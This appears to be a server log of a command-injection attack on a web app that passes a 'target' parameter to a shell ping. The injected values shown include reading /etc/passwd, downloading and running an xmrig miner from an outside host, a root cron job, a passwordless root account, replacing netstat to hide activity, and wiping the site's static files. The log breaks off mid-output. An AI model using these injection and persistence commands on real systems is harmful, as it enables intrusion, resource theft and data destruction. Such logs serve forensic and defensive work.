2026-11-24T15:15:45.638219876Z [::ffff:172.20.0.1]:57052: url:/
2026-11-24T15:15:45.641035186Z 172.20.0.1 - - [24/Nov/2026 15:15:45] "[37mGET / HTTP/1.1[0m" 200 -
2026-11-24T15:15:45.858544788Z [::ffff:172.20.0.1]:57064: url:/
2026-11-24T15:15:45.861342872Z [32mINFO[0m pinging "127.0.0.1"
2026-11-24T15:15:46.863719007Z 172.20.0.1 - - [24/Nov/2026 15:15:46] "[37mGET /?target=127.0.0.1 HTTP/1.1[0m" 200 -
2026-11-24T15:15:47.083799514Z [::ffff:172.20.0.1]:57068: url:/
2026-11-24T15:15:47.086944225Z [32mINFO[0m pinging "localhost"
2026-11-24T15:15:48.089847123Z 172.20.0.1 - - [24/Nov/2026 15:15:48] "[37mGET /?target=localhost HTTP/1.1[0m" 200 -
2026-11-24T15:15:49.530693216Z [::ffff:172.20.0.1]:57070: url:/robots.txt
2026-11-24T15:15:49.530732084Z [::ffff:172.20.0.1]:57070: response:404
2026-11-24T15:15:49.745375148Z [::ffff:172.20.0.1]:57076: url:/admin
2026-11-24T15:15:49.745396580Z [::ffff:172.20.0.1]:57076: response:404
2026-11-24T15:15:49.959586910Z [::ffff:172.20.0.1]:57086: url:/login
2026-11-24T15:15:49.959657155Z [::ffff:172.20.0.1]:57086: response:404
2026-11-24T15:15:50.174511789Z [::ffff:172.20.0.1]:57102: url:/.git/config
2026-11-24T15:15:50.174533371Z [::ffff:172.20.0.1]:57102: response:404
2026-11-24T15:15:50.389115871Z [::ffff:172.20.0.1]:57112: url:/
2026-11-24T15:15:50.391715831Z [32mINFO[0m pinging ""
2026-11-24T15:15:50.394029304Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:50.394042975Z 
2026-11-24T15:15:50.394046450Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:50.394049504Z 
2026-11-24T15:15:50.394052529Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:50.394055523Z 
2026-11-24T15:15:50.394058388Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:50.394061913Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:50.394064827Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:50.394213478Z 	-i SECS		Interval
2026-11-24T15:15:50.394219297Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:50.394221941Z 	-t TTL		Set TTL
2026-11-24T15:15:50.394224164Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:50.394226398Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:50.394228701Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:50.394230824Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:50.394233158Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:50.394235261Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:50.394252527Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:50.394503921Z 172.20.0.1 - - [24/Nov/2026 15:15:50] "[33mGET /?target= HTTP/1.1[0m" 200 -
2026-11-24T15:15:50.608842943Z [::ffff:172.20.0.1]:57114: url:/
2026-11-24T15:15:50.611082590Z [32mINFO[0m pinging "localhost'"
2026-11-24T15:15:50.611612405Z sh: syntax error: unterminated quoted string
2026-11-24T15:15:50.611992981Z 172.20.0.1 - - [24/Nov/2026 15:15:50] "[33mGET /?target=localhost' HTTP/1.1[0m" 200 -
2026-11-24T15:15:50.825937059Z [::ffff:172.20.0.1]:57120: url:/
2026-11-24T15:15:50.828227859Z [32mINFO[0m pinging "localhost;id"
2026-11-24T15:15:51.830716351Z 172.20.0.1 - - [24/Nov/2026 15:15:51] "[37mGET /?target=localhost;id HTTP/1.1[0m" 200 -
2026-11-24T15:15:52.046906608Z [::ffff:172.20.0.1]:57122: url:/
2026-11-24T15:15:52.048463996Z [32mINFO[0m pinging ";uname -m"
2026-11-24T15:15:52.051046470Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:52.051061673Z 
2026-11-24T15:15:52.051065338Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:52.051068162Z 
2026-11-24T15:15:52.051070966Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:52.051074021Z 
2026-11-24T15:15:52.051076304Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:52.051079309Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:52.051082243Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:52.051084927Z 	-i SECS		Interval
2026-11-24T15:15:52.051087130Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:52.051089454Z 	-t TTL		Set TTL
2026-11-24T15:15:52.051091707Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:52.051094401Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:52.051097286Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:52.051100210Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:52.051102623Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:52.051104927Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:52.051107190Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:52.051747469Z 172.20.0.1 - - [24/Nov/2026 15:15:52] "[37mGET /?target=;uname%20-m HTTP/1.1[0m" 200 -
2026-11-24T15:15:52.266564186Z [::ffff:172.20.0.1]:57124: url:/
2026-11-24T15:15:52.269197682Z [32mINFO[0m pinging ";ps"
2026-11-24T15:15:52.271812634Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:52.271839624Z 
2026-11-24T15:15:52.271842738Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:52.271845032Z 
2026-11-24T15:15:52.271849699Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:52.271852092Z 
2026-11-24T15:15:52.271854746Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:52.271857470Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:52.271860325Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:52.271863509Z 	-i SECS		Interval
2026-11-24T15:15:52.271865893Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:52.271868637Z 	-t TTL		Set TTL
2026-11-24T15:15:52.271871371Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:52.271873875Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:52.271876509Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:52.271879293Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:52.271882337Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:52.271884601Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:52.271886934Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:52.272744785Z 172.20.0.1 - - [24/Nov/2026 15:15:52] "[37mGET /?target=;ps HTTP/1.1[0m" 200 -
2026-11-24T15:15:52.487546481Z [::ffff:172.20.0.1]:57126: url:/
2026-11-24T15:15:52.489995917Z [32mINFO[0m pinging ";cat /etc/passwd"
2026-11-24T15:15:52.492930645Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:52.493000659Z 
2026-11-24T15:15:52.493182811Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:52.493226706Z 
2026-11-24T15:15:52.493229851Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:52.493232244Z 
2026-11-24T15:15:52.493234327Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:52.493237011Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:52.493239215Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:52.493241348Z 	-i SECS		Interval
2026-11-24T15:15:52.493243461Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:52.493245474Z 	-t TTL		Set TTL
2026-11-24T15:15:52.493247427Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:52.493249690Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:52.493251933Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:52.493254097Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:52.493270721Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:52.493273355Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:52.493379954Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:52.494909010Z 172.20.0.1 - - [24/Nov/2026 15:15:52] "[37mGET /?target=;cat%20/etc/passwd HTTP/1.1[0m" 200 -
2026-11-24T15:15:52.711897525Z [::ffff:172.20.0.1]:57136: url:/
2026-11-24T15:15:52.714418848Z [32mINFO[0m pinging ";ls -la /app /tmp"
2026-11-24T15:15:52.717943995Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:52.717960710Z 
2026-11-24T15:15:52.717963764Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:52.717966368Z 
2026-11-24T15:15:52.717968722Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:52.717971406Z 
2026-11-24T15:15:52.717973839Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:52.717976723Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:52.717979508Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:52.717982282Z 	-i SECS		Interval
2026-11-24T15:15:52.718033508Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:52.718037494Z 	-t TTL		Set TTL
2026-11-24T15:15:52.718040018Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:52.718042581Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:52.718045215Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:52.718047819Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:52.718050293Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:52.718052757Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:52.718055260Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:52.719007257Z 172.20.0.1 - - [24/Nov/2026 15:15:52] "[37mGET /?target=;ls%20-la%20/app%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T15:15:52.939956357Z [::ffff:172.20.0.1]:57146: url:/
2026-11-24T15:15:52.945513909Z [32mINFO[0m pinging ";wget http://198.51.100.7/xmrig-6.6.0-linux-x64.tar.gz -q -O /tmp/a"
2026-11-24T15:15:52.948826669Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:52.948844065Z 
2026-11-24T15:15:52.948847010Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:52.948849513Z 
2026-11-24T15:15:52.948851697Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:52.948854060Z 
2026-11-24T15:15:52.948875893Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:52.948897405Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:52.948899998Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:52.948902382Z 	-i SECS		Interval
2026-11-24T15:15:52.948904705Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:52.948907159Z 	-t TTL		Set TTL
2026-11-24T15:15:52.948909543Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:52.948911856Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:52.948914280Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:52.948916773Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:52.948919147Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:52.948921531Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:52.948925546Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:52.950954416Z 172.20.0.1 - - [24/Nov/2026 15:15:52] "[33mGET /?target=;wget%20http://198.51.100.7/xmrig-6.6.0-linux-x64.tar.gz%20-q%20-O%20/tmp/a HTTP/1.1[0m" 200 -
2026-11-24T15:15:53.170668719Z [::ffff:172.20.0.1]:57152: url:/
2026-11-24T15:15:53.173476828Z [32mINFO[0m pinging ";tar -xf /tmp/a -C /tmp"
2026-11-24T15:15:53.176900445Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:53.176941906Z 
2026-11-24T15:15:53.177078640Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:53.177082135Z 
2026-11-24T15:15:53.177084499Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:53.177086842Z 
2026-11-24T15:15:53.177089146Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:53.177092070Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:53.177094293Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:53.177096486Z 	-i SECS		Interval
2026-11-24T15:15:53.177098760Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:53.177101093Z 	-t TTL		Set TTL
2026-11-24T15:15:53.177103327Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:53.177105570Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:53.177107883Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:53.177110127Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:53.177112440Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:53.177114623Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:53.177243675Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:53.177960933Z tar: invalid tar magic
2026-11-24T15:15:53.178592894Z 172.20.0.1 - - [24/Nov/2026 15:15:53] "[33mGET /?target=;tar%20-xf%20/tmp/a%20-C%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T15:15:53.395039341Z [::ffff:172.20.0.1]:57164: url:/
2026-11-24T15:15:53.397288429Z [32mINFO[0m pinging ";tar -xzf /tmp/a -C /tmp"
2026-11-24T15:15:53.400286221Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:53.400304678Z 
2026-11-24T15:15:53.400307262Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:53.400309285Z 
2026-11-24T15:15:53.400311128Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:53.400313011Z 
2026-11-24T15:15:53.400314803Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:53.400317287Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:53.400346971Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:53.400349185Z 	-i SECS		Interval
2026-11-24T15:15:53.400351258Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:53.400353271Z 	-t TTL		Set TTL
2026-11-24T15:15:53.400355244Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:53.400357176Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:53.400359159Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:53.400361062Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:53.400363015Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:53.400364908Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:53.400367842Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:53.401998429Z 172.20.0.1 - - [24/Nov/2026 15:15:53] "[33mGET /?target=;tar%20-xzf%20/tmp/a%20-C%20/tmp HTTP/1.1[0m" 200 -
2026-11-24T15:15:53.617039466Z [::ffff:172.20.0.1]:57172: url:/
2026-11-24T15:15:53.619421982Z [32mINFO[0m pinging ";ls -al /tmp /tmp/xmrig-6.6.0"
2026-11-24T15:15:53.622711358Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:53.622721133Z 
2026-11-24T15:15:53.622723957Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:53.622726310Z 
2026-11-24T15:15:53.622728594Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:53.622730997Z 
2026-11-24T15:15:53.622733261Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:53.622736055Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:53.622818738Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:53.622822343Z 	-i SECS		Interval
2026-11-24T15:15:53.622836504Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:53.622839208Z 	-t TTL		Set TTL
2026-11-24T15:15:53.622841622Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:53.622844066Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:53.622846469Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:53.622848913Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:53.622851316Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:53.622853750Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:53.622856093Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:53.623747100Z 172.20.0.1 - - [24/Nov/2026 15:15:53] "[37mGET /?target=;ls%20-al%20/tmp%20/tmp/xmrig-6.6.0 HTTP/1.1[0m" 200 -
2026-11-24T15:15:53.839317149Z [::ffff:172.20.0.1]:57180: url:/
2026-11-24T15:15:53.841993302Z [32mINFO[0m pinging ";/tmp/xmrig-6.6.0/xmrig -o 198.51.100.7:3333 -u 4AdUndXHHZ6cfu >/tmp/.x.log 2>&1 &"
2026-11-24T15:15:53.844939167Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:53.844955601Z 
2026-11-24T15:15:53.844957844Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:53.844959587Z 
2026-11-24T15:15:53.844961189Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:53.844962752Z 
2026-11-24T15:15:53.844964294Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:53.844966287Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:53.844967969Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:53.844969582Z 	-i SECS		Interval
2026-11-24T15:15:53.844971174Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:53.844972777Z 	-t TTL		Set TTL
2026-11-24T15:15:53.844974319Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:53.844976632Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:53.844978365Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:53.844980037Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:53.844981700Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:53.844983272Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:53.844984985Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:53.845889381Z 172.20.0.1 - - [24/Nov/2026 15:15:53] "[33mGET /?target=;/tmp/xmrig-6.6.0/xmrig%20-o%20198.51.100.7:3333%20-u%204AdUndXHHZ6cfu%20%3E/tmp/.x.log%202%3E%261%20%26 HTTP/1.1[0m" 200 -
2026-11-24T15:15:54.061344584Z [::ffff:172.20.0.1]:57184: url:/
2026-11-24T15:15:54.064307254Z [32mINFO[0m pinging ";ps"
2026-11-24T15:15:54.067670239Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:54.067689678Z 
2026-11-24T15:15:54.067692783Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:54.067695187Z 
2026-11-24T15:15:54.067697590Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:54.067700124Z 
2026-11-24T15:15:54.067702377Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:54.067741155Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:54.067743649Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:54.067746233Z 	-i SECS		Interval
2026-11-24T15:15:54.067749327Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:54.067752121Z 	-t TTL		Set TTL
2026-11-24T15:15:54.067754485Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:54.067757029Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:54.067759532Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:54.067761916Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:54.067764339Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:54.067766613Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:54.067768996Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:54.068564240Z 172.20.0.1 - - [24/Nov/2026 15:15:54] "[37mGET /?target=;ps HTTP/1.1[0m" 200 -
2026-11-24T15:15:54.286792675Z [::ffff:172.20.0.1]:57186: url:/
2026-11-24T15:15:54.289132348Z [32mINFO[0m pinging ";printf '#!/bin/sh\n/tmp/xmrig-6.6.0/xmrig &\n' >/tmp/h;chmod 755 /tmp/h;mv /tmp/h /usr/local/bin/health"
2026-11-24T15:15:54.291995419Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:54.292012815Z 
2026-11-24T15:15:54.292016200Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:54.292019125Z 
2026-11-24T15:15:54.292021398Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:54.292023741Z 
2026-11-24T15:15:54.292025995Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:54.292029059Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:54.292031663Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:54.292034417Z 	-i SECS		Interval
2026-11-24T15:15:54.292036821Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:54.292039144Z 	-t TTL		Set TTL
2026-11-24T15:15:54.292052785Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:54.292054607Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:54.292056210Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:54.292057822Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:54.292059394Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:54.292060957Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:54.292062569Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:54.293354352Z 172.20.0.1 - - [24/Nov/2026 15:15:54] "[33mGET /?target=;printf%20%27%23!/bin/sh%5Cn/tmp/xmrig-6.6.0/xmrig%20%26%5Cn%27%20%3E/tmp/h;chmod%20755%20/tmp/h;mv%20/tmp/h%20/usr/local/bin/health HTTP/1.1[0m" 200 -
2026-11-24T15:15:54.508281905Z [::ffff:172.20.0.1]:57194: url:/
2026-11-24T15:15:54.512018025Z [32mINFO[0m pinging ";rm /bin/netstat;printf '#!/bin/sh\nexit 0\n' >/bin/netstat;chmod 755 /bin/netstat"
2026-11-24T15:15:54.514566739Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:54.514574110Z 
2026-11-24T15:15:54.514577074Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:54.514578857Z 
2026-11-24T15:15:54.514580429Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:54.514581992Z 
2026-11-24T15:15:54.514583624Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:54.514585457Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:54.514689892Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:54.514694569Z 	-i SECS		Interval
2026-11-24T15:15:54.514696963Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:54.514699026Z 	-t TTL		Set TTL
2026-11-24T15:15:54.514700718Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:54.514702311Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:54.514703973Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:54.514705686Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:54.514707278Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:54.514712516Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:54.514714158Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:54.515650152Z 172.20.0.1 - - [24/Nov/2026 15:15:54] "[33mGET /?target=;rm%20/bin/netstat;printf%20%27%23!/bin/sh%5Cnexit%200%5Cn%27%20%3E/bin/netstat;chmod%20755%20/bin/netstat HTTP/1.1[0m" 200 -
2026-11-24T15:15:54.732743002Z [::ffff:172.20.0.1]:57204: url:/
2026-11-24T15:15:54.735329422Z [32mINFO[0m pinging ";echo svc::0:0::/root:/bin/sh >>/etc/passwd"
2026-11-24T15:15:54.738482855Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:54.738494002Z 
2026-11-24T15:15:54.738496235Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:54.738497938Z 
2026-11-24T15:15:54.738499470Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:54.738501223Z 
2026-11-24T15:15:54.738503456Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:54.738505739Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:54.738507322Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:54.738509164Z 	-i SECS		Interval
2026-11-24T15:15:54.738510737Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:54.738512339Z 	-t TTL		Set TTL
2026-11-24T15:15:54.738513881Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:54.738515454Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:54.738517006Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:54.738518558Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:54.738520111Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:54.738521613Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:54.738523215Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:54.740188554Z 172.20.0.1 - - [24/Nov/2026 15:15:54] "[33mGET /?target=;echo%20svc::0:0::/root:/bin/sh%20%3E%3E/etc/passwd HTTP/1.1[0m" 200 -
2026-11-24T15:15:54.955737672Z [::ffff:172.20.0.1]:57206: url:/
2026-11-24T15:15:54.958189221Z [32mINFO[0m pinging ";mkdir -p /var/spool/cron/crontabs;echo '*/5 * * * * /usr/local/bin/health' >/var/spool/cron/crontabs/root"
2026-11-24T15:15:54.961523969Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:54.961537069Z 
2026-11-24T15:15:54.961539342Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:54.961541015Z 
2026-11-24T15:15:54.961542627Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:54.961544249Z 
2026-11-24T15:15:54.961545742Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:54.961547574Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:54.961549177Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
2026-11-24T15:15:54.961550839Z 	-i SECS		Interval
2026-11-24T15:15:54.961552432Z 	-A		Ping as soon as reply is received
2026-11-24T15:15:54.961554034Z 	-t TTL		Set TTL
2026-11-24T15:15:54.961555536Z 	-I IFACE/IP	Source interface or IP address
2026-11-24T15:15:54.961566993Z 	-W SEC		Seconds to wait for the first response (default 10)
2026-11-24T15:15:54.961568776Z 			(after all -c CNT packets are sent)
2026-11-24T15:15:54.961570358Z 	-w SEC		Seconds until ping exits (default:infinite)
2026-11-24T15:15:54.961571921Z 			(can exit earlier with -c CNT)
2026-11-24T15:15:54.961573473Z 	-q		Quiet, only display output at start/finish
2026-11-24T15:15:54.961575065Z 	-p HEXBYTE	Payload pattern
2026-11-24T15:15:54.962722538Z 172.20.0.1 - - [24/Nov/2026 15:15:54] "[33mGET /?target=;mkdir%20-p%20/var/spool/cron/crontabs;echo%20%27*/5%20*%20*%20*%20*%20/usr/local/bin/health%27%20%3E/var/spool/cron/crontabs/root HTTP/1.1[0m" 200 -
2026-11-24T15:15:55.177377676Z [::ffff:172.20.0.1]:57208: url:/
2026-11-24T15:15:55.180300561Z [32mINFO[0m pinging ";rm -rf /app/static;mkdir /app/static;echo owned >/app/static/index.html"
2026-11-24T15:15:55.182792951Z BusyBox v1.35.0 (Debian 1:1.35.0-4+deb12u1+b1) multi-call binary.
2026-11-24T15:15:55.182803757Z 
2026-11-24T15:15:55.182806511Z Usage: ping [OPTIONS] HOST
2026-11-24T15:15:55.182808984Z 
2026-11-24T15:15:55.182811048Z Send ICMP ECHO_REQUESTs to HOST
2026-11-24T15:15:55.182813191Z 
2026-11-24T15:15:55.182815364Z 	-4,-6		Force IP or IPv6 name resolution
2026-11-24T15:15:55.182817848Z 	-c CNT		Send only CNT pings
2026-11-24T15:15:55.182820141Z 	-s SIZE		Send SIZE data bytes in packets (default 56)
